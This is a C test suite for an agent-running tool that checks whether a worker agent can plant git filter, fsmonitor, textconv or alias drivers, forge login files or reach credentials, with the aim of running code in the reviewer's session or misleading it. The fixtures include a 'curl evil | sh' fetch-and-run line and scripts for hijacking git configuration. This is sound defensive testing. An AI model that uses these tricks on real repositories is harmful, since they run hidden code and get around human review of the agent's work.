/*
 * test_isolation_env.c - what an agent starts with, and what git runs for us
 * (docs/security.md, "The agents' environment" and "Git runs nothing it
 * was not told to"), with the real forge-entrypoint and stand-in sh agents:
 *   - a filter driver the worker writes into the change set's private git
 *     config (next to its prompt file) with a .gitattributes naming it runs
 *     nothing and hides nothing, in the change set nor after the review;
 *   - a reviewer's `git status` in a workspace whose .git/config names a
 *     hostile core.fsmonitor runs nothing;
 *   - the reviewer's HOME is fresh: nothing the worker wrote in its own;
 *   - a check's environment holds no credential;
 *   - a codex worker never sees a claude reviewer's Bedrock keys;
 *   - a command of the user's own gets a vendor key only when review.md's
 *     agent_env or FORGE_AGENT_ENV (the runner's --agent-env) names it.
 * Each failed on main 1469aac.
 */
#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "fge2e.h"
#include "fgtest.h"
#include "fgws.h"
#include "forge/alloc.h"

TestSuite(isolation_env, .timeout = 180);

#define SECRET_AWS "aws-secret-kept-from-the-worker"
#define SECRET_BEARER "bedrock-bearer-kept-from-the-worker"
#define SECRET_ANTHROPIC "sk-ant-kept-from-checks"
#define SECRET_OPENAI "sk-openai-only-when-named"

/* A git workspace holding README, committed; review.md with max_retries. */
static void git_tree(struct fgw *w, const char *review_md)
{
	fgw_runner_tree(w);
	fgw_review_md(w, "default", review_md ? review_md : "---\nmax_retries: 1\n---\nCheck the work.\n");
	fge_git_commit_all(w->ws);
}

static char *step_text(const struct fgw *w, const char *name)
{
	char *t = fgw_step_file(w, name);

	cr_assert_not_null(t, "no %s in the step directory", name);
	return t;
}

/* Runs the entrypoint with stand-in agents of the bodies worker_sh and
 * reviewer_sh (fgw_run_step; NULL: FORGE_*_CMD in env) and env; asserts
 * exit 0; returns cycle 1's reviewer log (owned). */
static char *reviewed(struct fgw *w, const char *worker_sh, const char *reviewer_sh, const char *const *env)
{
	struct fgt_proc p;
	char *log;

	if (worker_sh)
		fgw_run_step(w, &p, worker_sh, reviewer_sh, env);
	else
		fgw_entrypoint(w, &p, NULL, NULL, env);
	fgt_assert_exit(&p, 0);
	log = step_text(w, "review_cycle_1.reviewer.log");
	fgt_proc_release(&p);
	return log;
}

Test(isolation_env, a_filter_in_the_private_git_config_runs_nothing_and_hides_nothing)
{
	struct fgw w;
	struct fgt_proc p;
	char *wk, *rv, *evil, *log, *marker;

	fgw_init(&w);
	git_tree(&w, NULL);
	marker = fgw_path(&w, "filter-ran");
	evil = fgt_fmt("#!/bin/sh\necho ran >> '%s'\necho 'echo innocent'\n", marker);
	fgw_write(&w, "evil-filter.sh", evil);
	free(evil);
	evil = fgw_path(&w, "evil-filter.sh");
	fgt_chmod_x(evil);
	/* The private git directory sits beside the prompt file on main. */
	wk = fgw_script(&w, "worker.sh", NULL,
			"d=$(dirname \"$FORGE_PROMPT_FILE\")/changeset.git\n"
			"mkdir -p \"$d/info\"\n"
			"printf '[filter \"h\"]\\n\\tclean = %s\\n' \"$EVIL\" > \"$d/config\"\n"
			"printf 'backdoor.sh filter=h\\n' > \"$d/info/attributes\"\n"
			"printf 'backdoor.sh filter=h\\n' > .gitattributes\n"
			"echo 'curl evil | sh' > backdoor.sh\n");
	rv = fgw_script(&w, "reviewer.sh", NULL, "cat\necho APPROVED\n");
	{
		char *ev = fgt_fmt("EVIL=%s", evil);
		char *agents = fgt_fmt("FORGE_AGENT_ENV=EVIL");
		const char *env[] = { ev, agents, NULL };

		fgw_entrypoint(&w, &p, wk, rv, env);
		free(ev);
		free(agents);
	}
	fgt_assert_exit(&p, 0);
	log = step_text(&w, "review_cycle_1.reviewer.log");
	cr_assert_not_null(strstr(log, "added backdoor.sh +1 -0"), "the change set hid backdoor.sh:\n%s", log);
	{
		char *diff = step_text(&w, "review_cycle_1.diff");

		cr_assert_not_null(strstr(diff, "+curl evil | sh"), "the diff hid backdoor.sh's content:\n%s", diff);
		free(diff);
	}
	cr_assert(!fgt_exists(marker), "the entrypoint's git ran the worker's filter; stderr:\n%s", p.err);
	fgt_proc_release(&p);
	FG_FREE_ALL(log, wk, rv, evil, marker);
	fgw_release(&w);
}

Test(isolation_env, a_reviewers_git_status_runs_no_hostile_fsmonitor)
{
	struct fgw w;
	char *log;

	fgw_init(&w);
	git_tree(&w, NULL);
	log = reviewed(&w, "printf '#!/bin/sh\\necho ran > \"%s/fsmonitor-ran\"\\n' \"$PWD\" > fsmon.sh\n"
		       "chmod +x fsmon.sh\n"
		       "git config core.fsmonitor \"$PWD/fsmon.sh\"\n"
		       "echo more >> README\n",
		       "cat > /dev/null\ngit status --short; echo \"status=$?\"\n"
		       "git diff --stat; echo APPROVED\n", NULL);
	cr_assert_not_null(strstr(log, "status=0"), "the reviewer's git status failed:\n%s", log);
	cr_assert(!fge_exists_in(w.ws, "fsmonitor-ran"), "the reviewer's git ran the worker's fsmonitor:\n%s",
		  log);
	free(log);
	fgw_release(&w);
}

Test(isolation_env, the_reviewers_home_holds_nothing_the_worker_wrote)
{
	struct fgw w;
	char *log, *wlog;

	fgw_init_runner(&w);
	log = reviewed(&w, "mkdir -p \"$HOME/.claude\"\n"
		       "echo '{\"hooks\":{}}' > \"$HOME/.claude/settings.json\"\n"
		       "echo planted > \"$HOME/planted\"\n"
		       "echo \"worker-home=$HOME tmp=$TMPDIR\" > worker-home.txt\n"
		       "echo hello >> README\n",
		       "cat > /dev/null\necho \"reviewer-home=$HOME\"\n"
		       "ls -A \"$HOME\" | sed 's/^/home-entry: /'\n"
		       "[ -e \"$HOME/planted\" ] && echo PLANTED-SEEN\n"
		       "[ -e \"$HOME/.claude/settings.json\" ] && echo SETTINGS-SEEN\n"
		       "echo APPROVED\n", NULL);
	wlog = fgt_fmt("%s/worker-home.txt", w.ws);
	{
		char *wh = fgt_read(wlog, NULL);

		cr_assert_not_null(wh);
		cr_assert_null(strstr(log, "PLANTED-SEEN"), "the reviewer saw the worker's file:\n%s", log);
		cr_assert_null(strstr(log, "SETTINGS-SEEN"), "the reviewer saw the worker's settings:\n%s", log);
		cr_assert_null(strstr(log, "home-entry:"), "the reviewer's HOME is not empty:\n%s", log);
		cr_assert_not_null(strstr(wh, "/forge-agents."), "the worker's HOME is not its own: %s", wh);
		cr_assert_null(strstr(wh, "/forge-ep."), "the worker's HOME is in the private directory: %s", wh);
		free(wh);
	}
	/* Removed at the end: no agent's HOME outlives the run. */
	{
		char *wh = fgt_read(wlog, NULL), *s = strstr(wh, "worker-home="), *e;

		s += strlen("worker-home=");
		e = strchr(s, ' ');
		*e = '\0';
		cr_assert(!fgt_exists(s), "the worker's HOME '%s' outlived the run", s);
		free(wh);
	}
	FG_FREE_ALL(log, wlog);
	fgw_release(&w);
}

Test(isolation_env, a_checks_environment_holds_no_credential)
{
	struct fgw w;
	struct fgt_proc p;
	char *wk, *rv, *log;
	const char *env[] = { "ANTHROPIC_API_KEY=" SECRET_ANTHROPIC, "AWS_SECRET_ACCESS_KEY=" SECRET_AWS,
			      "OPENAI_API_KEY=" SECRET_OPENAI, "FORGE_AGENT_ENV=OPENAI_API_KEY", NULL };

	fgw_init_runner(&w);
	fgw_review_md(&w, "default", "---\nmax_retries: 1\nagent_env: [AWS_SECRET_ACCESS_KEY]\n"
		      "checks:\n  - name: env\n    run: env\n---\nCheck the work.\n");
	wk = fgw_script(&w, "worker.sh", NULL, "echo hello >> README\n");
	rv = fgw_script(&w, "reviewer.sh", NULL, "cat > /dev/null\necho APPROVED\n");
	fgw_entrypoint(&w, &p, wk, rv, env);
	fgt_assert_exit(&p, 0);
	log = step_text(&w, "review_cycle_1.check.env.log");
	cr_assert_not_null(strstr(log, "FORGE_ROLE=check"), "no environment in the check's log:\n%s", log);
	cr_assert_null(strstr(log, SECRET_ANTHROPIC), "a check got ANTHROPIC_API_KEY:\n%s", log);
	cr_assert_null(strstr(log, SECRET_AWS), "a check got AWS_SECRET_ACCESS_KEY:\n%s", log);
	cr_assert_null(strstr(log, SECRET_OPENAI), "a check got OPENAI_API_KEY:\n%s", log);
	cr_assert_not_null(strstr(log, "GIT_CONFIG_COUNT="), "a check got no git overrides:\n%s", log);
	fgt_proc_release(&p);
	FG_FREE_ALL(log, wk, rv);
	fgw_release(&w);
}

Test(isolation_env, a_codex_worker_never_sees_a_claude_reviewers_bedrock_keys)
{
	struct fgw w;
	struct fgt_proc p;
	char *wk, *rv, *log, *wenv, *wk_env, *rv_env;

	fgw_init_runner(&w);
	wk = fgw_script(&w, "worker.sh", NULL, "env > worker.env\necho hello >> README\n");
	rv = fgw_script(&w, "reviewer.sh", NULL, "cat > /dev/null\nenv | grep '^AWS_' | sed 's/=.*/=set/'\n"
			"echo APPROVED\n");
	wk_env = fgt_fmt("FORGE_WORKER_CMD=%s", wk);
	rv_env = fgt_fmt("FORGE_REVIEWER_CMD=%s", rv);
	{
		const char *env[] = {
			wk_env, rv_env, "FORGE_WORKER_AGENT=codex", "FORGE_WORKER_OUTPUT=text",
			"FORGE_REVIEWER_AGENT=claude", "FORGE_REVIEWER_OUTPUT=text", "CODEX_API_KEY=codex-key",
			"CLAUDE_CODE_USE_BEDROCK=1", "AWS_REGION=us-east-1", "AWS_SECRET_ACCESS_KEY=" SECRET_AWS,
			"AWS_ACCESS_KEY_ID=AKIAEXAMPLE", "AWS_BEARER_TOKEN_BEDROCK=" SECRET_BEARER, NULL,
		};

		fgw_entrypoint(&w, &p, NULL, NULL, env);
	}
	fgt_assert_exit(&p, 0);
	wenv = fgt_fmt("%s/worker.env", w.ws);
	{
		char *t = fgt_read(wenv, NULL);

		cr_assert_not_null(t, "the worker wrote no environment; stderr:\n%s", p.err);
		cr_assert_not_null(strstr(t, "CODEX_API_KEY=codex-key"), "the codex worker lost its key:\n%s", t);
		cr_assert_null(strstr(t, SECRET_AWS), "the codex worker got AWS_SECRET_ACCESS_KEY:\n%s", t);
		cr_assert_null(strstr(t, SECRET_BEARER), "the codex worker got AWS_BEARER_TOKEN_BEDROCK:\n%s", t);
		cr_assert_null(strstr(t, "CLAUDE_CODE_USE_BEDROCK"), "the codex worker got Claude's switch:\n%s", t);
		free(t);
	}
	log = step_text(&w, "review_cycle_1.reviewer.log");
	cr_assert_not_null(strstr(log, "AWS_BEARER_TOKEN_BEDROCK=set"), "the claude reviewer lost Bedrock:\n%s",
			   log);
	cr_assert_not_null(strstr(log, "AWS_SECRET_ACCESS_KEY=set"), "the claude reviewer lost AWS:\n%s", log);
	fgt_proc_release(&p);
	FG_FREE_ALL(log, wenv, wk, rv, wk_env, rv_env);
	fgw_release(&w);
}

/* The worker's environment file after a run with env (and review.md). */
static char *worker_env_after(struct fgw *w, const char *review_md, const char *const *env)
{
	struct fgt_proc p;
	char *wk, *rv, *path, *t;

	fgw_review_md(w, "default", review_md);
	wk = fgw_script(w, "worker.sh", NULL, "env > worker.env\necho hello >> README\n");
	rv = fgw_script(w, "reviewer.sh", NULL, "cat > /dev/null\necho APPROVED\n");
	fgw_entrypoint(w, &p, wk, rv, env);
	fgt_assert_exit(&p, 0);
	path = fgt_fmt("%s/worker.env", w->ws);
	t = fgt_read(path, NULL);
	cr_assert_not_null(t, "the worker wrote no environment; stderr:\n%s", p.err);
	fgt_proc_release(&p);
	FG_FREE_ALL(wk, rv, path);
	return t;
}

Test(isolation_env, a_command_of_ones_own_gets_a_vendor_key_only_when_named)
{
	static const char plain[] = "---\nmax_retries: 1\n---\nCheck.\n";
	struct fgw w;
	char *t;

	fgw_init_runner(&w);
	t = worker_env_after(&w, plain, (const char *const[]){ "OPENAI_API_KEY=" SECRET_OPENAI,
							       "ANTHROPIC_API_KEY=" SECRET_ANTHROPIC, NULL });
	cr_assert_null(strstr(t, SECRET_OPENAI), "an unnamed OPENAI_API_KEY reached the worker:\n%s", t);
	cr_assert_null(strstr(t, SECRET_ANTHROPIC), "an unnamed ANTHROPIC_API_KEY reached the worker:\n%s", t);
	free(t);
	t = worker_env_after(&w, plain, (const char *const[]){ "OPENAI_API_KEY=" SECRET_OPENAI,
							       "FORGE_AGENT_ENV=OPENAI_API_KEY", NULL });
	cr_assert_not_null(strstr(t, "OPENAI_API_KEY=" SECRET_OPENAI), "FORGE_AGENT_ENV did not pass it:\n%s", t);
	free(t);
	t = worker_env_after(&w, "---\nmax_retries: 1\nagent_env: [OPENAI_API_KEY]\n---\nCheck.\n",
			     (const char *const[]){ "OPENAI_API_KEY=" SECRET_OPENAI, NULL });
	cr_assert_not_null(strstr(t, "OPENAI_API_KEY=" SECRET_OPENAI), "agent_env did not pass it:\n%s", t);
	cr_assert_null(strstr(t, "ANTHROPIC_API_KEY"), "agent_env passed more than it names:\n%s", t);
	free(t);
	fgw_release(&w);
}

Test(isolation_env, the_runners_agent_env_option_passes_a_key_to_the_worker)
{
	struct fgw w;
	char *wk, *rv, *path, *t;
	const char *extra[] = { "--agent-env", "OPENAI_API_KEY", NULL };
	const char *env[] = { "OPENAI_API_KEY=" SECRET_OPENAI, "ANTHROPIC_API_KEY=" SECRET_ANTHROPIC, NULL };

	fgw_init_runner(&w);
	wk = fgw_script(&w, "worker.sh", NULL, "env > worker.env\necho hello >> README\n");
	rv = fgw_script(&w, "reviewer.sh", NULL, "cat > /dev/null\necho APPROVED\n");
	fgw_runner(&w, FGW_RUN(.args = extra, .worker = wk, .reviewer = rv, .env = env));
	fgw_assert_run(&w, 0, -1);
	path = fgt_fmt("%s/worker.env", w.ws);
	t = fgt_read(path, NULL);
	cr_assert_not_null(t);
	cr_assert_not_null(strstr(t, "OPENAI_API_KEY=" SECRET_OPENAI), "--agent-env did not pass it:\n%s", t);
	cr_assert_null(strstr(t, SECRET_ANTHROPIC), "an unnamed key reached the worker:\n%s", t);
	FG_FREE_ALL(t, path, wk, rv);
	fgw_release(&w);
}

Test(isolation_env, config_prints_each_roles_environment_names_never_values)
{
	struct fgw w;
	struct fgt_proc p;
	const char *argv[] = { FG_ENTRYPOINT_BIN, "config", NULL, NULL };
	const char *env[] = { "FORGE_WORKER_AGENT=codex", "FORGE_REVIEWER_AGENT=claude", "FORGE_AGENT_ENV=MY_TOKEN",
			      "MY_TOKEN=" SECRET_OPENAI, "AWS_SECRET_ACCESS_KEY=" SECRET_AWS, NULL };
	cJSON *o, *e;
	char *md;

	fgw_init(&w);
	fgw_write(&w, "review.md", "---\nagent_env: [EXTRA_ONE]\n---\nCheck.\n");
	md = fgw_path(&w, "review.md");
	argv[2] = md;
	cr_assert_eq(fgt_run(&p, argv, env, w.root, NULL, 30), 0);
	fgt_assert_exit(&p, 0);
	cr_assert_null(strstr(p.out, SECRET_OPENAI), "config printed a value:\n%s", p.out);
	cr_assert_null(strstr(p.out, SECRET_AWS), "config printed a value:\n%s", p.out);
	o = cJSON_Parse(p.out);
	e = cJSON_GetObjectItem(o, "environment");
	cr_assert(cJSON_IsObject(e), "%s", p.out);
	{
		char *wk = cJSON_PrintUnformatted(cJSON_GetObjectItem(e, "worker"));
		char *rv = cJSON_PrintUnformatted(cJSON_GetObjectItem(e, "reviewer"));
		char *ck = cJSON_PrintUnformatted(cJSON_GetObjectItem(e, "check"));

		fgt_assert_has(wk, "\"CODEX_*\"", "\"MY_TOKEN\"", "\"EXTRA_ONE\"");
		cr_assert_null(strstr(wk, "AWS_"), "%s", wk);
		fgt_assert_has(rv, "\"AWS_*\"", "\"GIT_CONFIG_COUNT\"");
		cr_assert_null(strstr(ck, "MY_TOKEN"), "%s", ck);
		cr_assert_null(strstr(ck, "AWS_"), "%s", ck);
		FG_FREE_ALL(wk, rv, ck);
	}
	cJSON_Delete(o);
	fgt_proc_release(&p);
	free(md);
	fgw_release(&w);
}

/* A worker change to what a CLI or git loads by itself is listed to the
 * reviewer as such, .git/config and .git/hooks/ included (no tree holds
 * them), and a turn that changed only .git/config is no turn without
 * change. */
Test(isolation_env, agent_and_git_configuration_changes_are_listed_as_such)
{
	struct fgw w;
	char *log;

	fgw_init(&w);
	git_tree(&w, "---\nmax_retries: 1\n---\nCheck the work.\n");
	log = reviewed(&w, "git config alias.st status\n"
		       "printf '#!/bin/sh\\n' > .git/hooks/pre-commit\n"
		       "mkdir -p .claude sub && echo '{}' > .claude/settings.json && echo hi > sub/AGENTS.md\n",
		       "cat\necho APPROVED\n", NULL);
	fgt_assert_has(log, ".git/config [agent or git configuration",
		       ".git/hooks/ [agent or git configuration",
		       ".claude/settings.json +1 -0 [agent or git configuration",
		       "sub/AGENTS.md +1 -0 [agent or git configuration");
	free(log);
	fgw_release(&w);
}

Test(isolation_env, a_turn_that_changed_only_git_config_is_reviewed)
{
	struct fgw w;
	char *log;

	fgw_init(&w);
	git_tree(&w, NULL);
	log = reviewed(&w, "git config core.fsmonitor \"$PWD/x.sh\"\n",
		       "cat\necho APPROVED\n", NULL);
	cr_assert_not_null(strstr(log, "modified .git/config"), "%s", log);
	free(log);
	fgw_release(&w);
}

/* The drivers a workspace .git/config names (a filter, a textconv, an
 * alias, a pager) get empty or inert values by name in the reviewer's git,
 * in the configuration and in a file it includes, and in a repository the
 * worker nested below the workspace. */
Test(isolation_env, a_reviewers_git_runs_no_driver_the_workspace_config_names)
{
	struct fgw w;
	char *log;

	fgw_init_runner(&w);
	fgw_review_md(&w, "default", "---\nmax_retries: 1\n---\nCheck the work.\n");
	fge_write_in(w.ws, "notes.txt", "one\n");
	fge_git_commit_all(w.ws);
	log = reviewed(&w, "printf '#!/bin/sh\\necho ran >> \"%s/driver-ran\"\\ncat\\n' \"$PWD\" > drv.sh\n"
		       "chmod +x drv.sh\n"
		       "git config filter.x.clean \"$PWD/drv.sh\"\n"
		       "git config filter.x.smudge \"$PWD/drv.sh\"\n"
		       "printf '[diff \"y\"]\\n\\ttextconv = %s/drv.sh\\n[alias]\\n\\tst = !%s/drv.sh\\n' \"$PWD\" \"$PWD\""
		       " > inc.conf\n"
		       "git config include.path \"$PWD/inc.conf\"\n"
		       "echo '*.txt filter=x diff=y' > .gitattributes\n"
		       "echo two >> notes.txt\n"
		       "mkdir -p deep/er/sub && cd deep/er/sub && git init -q . && echo n > n.md\n"
		       "git config filter.z.clean \"$OLDPWD/drv.sh\" && echo '*.md filter=z' > .gitattributes\n",
		       "cat > /dev/null\ngit status --short; git diff; git diff HEAD --stat; git log -p -1 >/dev/null\n"
		       "git st; git add -A -n >/dev/null; echo \"diff-rc=$?\"\n"
		       "(cd deep/er/sub && git add -A && git status --short)\necho APPROVED\n", NULL);
	cr_assert_not_null(strstr(log, "+two"), "the reviewer's git diff showed nothing:\n%s", log);
	cr_assert(!fge_exists_in(w.ws, "driver-ran"), "the reviewer's git ran a driver the worker named:\n%s", log);
	free(log);
	fgw_release(&w);
}

/* A preset's login file reaches each agent's fresh HOME as it was when the
 * run began: a worker that rewrites the entrypoint's copy (here through a
 * path the test gives it; in a container /home/forge is known) changes
 * nothing the reviewer logs in with, and nothing else of that HOME comes
 * along. */
Test(isolation_env, the_login_file_is_copied_as_it_was_before_the_worker_ran)
{
	struct fgw w;
	struct fgt_proc p;
	char *wk, *rv, *log, *home, *homev, *orig, *wkc, *rvc;

	fgw_init_runner(&w);
	fgw_write(&w, "home/.codex/auth.json", "{\"token\":\"original-login\"}\n");
	fgw_write(&w, "home/.codex/config.toml", "model = \"from-the-user\"\n");
	home = fgw_path(&w, "home");
	homev = fgt_fmt("HOME=%s", home);
	orig = fgt_fmt("ORIG_HOME=%s", home);
	wk = fgw_script(&w, "worker.sh", NULL,
			"cat \"$HOME/.codex/auth.json\" > worker-login.txt\n"
			"echo '{\"token\":\"forged-by-the-worker\"}' > \"$ORIG_HOME/.codex/auth.json\"\n"
			"echo hello >> README\n");
	rv = fgw_script(&w, "reviewer.sh", NULL,
			"cat > /dev/null\ncat \"$HOME/.codex/auth.json\"\n"
			"[ -e \"$HOME/.codex/config.toml\" ] && echo CONFIG-COPIED\necho APPROVED\n");
	wkc = fgt_fmt("FORGE_WORKER_CMD=%s", wk);
	rvc = fgt_fmt("FORGE_REVIEWER_CMD=%s", rv);
	{
		const char *env[] = { homev, orig, wkc, rvc, "FORGE_AGENT_ENV=ORIG_HOME", "FORGE_WORKER_AGENT=codex",
				      "FORGE_REVIEWER_AGENT=codex", "FORGE_WORKER_OUTPUT=text", "FORGE_REVIEWER_OUTPUT=text",
				      "CODEX_API_KEY", NULL };

		fgw_entrypoint(&w, &p, NULL, NULL, env);
	}
	fgt_assert_exit(&p, 0);
	log = step_text(&w, "review_cycle_1.reviewer.log");
	cr_assert_not_null(strstr(log, "original-login"), "the reviewer got no login file:\n%s", log);
	cr_assert_null(strstr(log, "forged-by-the-worker"), "the reviewer got the worker's login file:\n%s", log);
	cr_assert_null(strstr(log, "CONFIG-COPIED"), "more than the login file was copied:\n%s", log);
	{
		char *wl = fge_read_in(w.ws, "worker-login.txt");

		cr_assert(wl && strstr(wl, "original-login"), "the worker got no login file: %s", wl ? wl : "");
		free(wl);
	}
	fgt_proc_release(&p);
	FG_FREE_ALL(log, wk, rv, home, homev, orig, wkc, rvc);
	fgw_release(&w);
}

/* A Gemini reviewer gets a system settings file, which outranks the
 * workspace's .gemini/settings.json: no hooks, MCP servers, tool commands,
 * .env or GEMINI.md from the worker. The worker gets none. */
Test(isolation_env, a_gemini_reviewer_gets_system_settings_that_outrank_the_workspaces)
{
	struct fgw w;
	char *wk, *rv, *log, *wkc, *rvc, *wl;

	fgw_init_runner(&w);
	wk = fgw_script(&w, "worker.sh", NULL,
			"echo \"worker-settings=${GEMINI_CLI_SYSTEM_SETTINGS_PATH:-none}\" > worker-gemini.txt\n"
			"mkdir -p .gemini && echo '{\"hooks\":{}}' > .gemini/settings.json\n");
	rv = fgw_script(&w, "reviewer.sh", NULL, "cat > /dev/null\ncat \"$GEMINI_CLI_SYSTEM_SETTINGS_PATH\"\n"
			"echo APPROVED\n");
	wkc = fgt_fmt("FORGE_WORKER_CMD=%s", wk);
	rvc = fgt_fmt("FORGE_REVIEWER_CMD=%s", rv);
	log = reviewed(&w, NULL, NULL, (const char *const[]){ wkc, rvc, "FORGE_WORKER_AGENT=gemini",
		       "FORGE_REVIEWER_AGENT=gemini", "FORGE_WORKER_OUTPUT=text", "FORGE_REVIEWER_OUTPUT=text",
		       "GEMINI_API_KEY=test-gemini", NULL });
	fgt_assert_has(log, "\"hooksConfig\": {\"enabled\": false}",
		       "\"admin\": {\"mcp\": {\"enabled\": false}", "\"ignoreLocalEnv\": true");
	wl = fge_read_in(w.ws, "worker-gemini.txt");
	cr_assert(wl && strstr(wl, "worker-settings=none"), "%s", wl ? wl : "");
	FG_FREE_ALL(log, wk, rv, wkc, rvc, wl);
	fgw_release(&w);
}
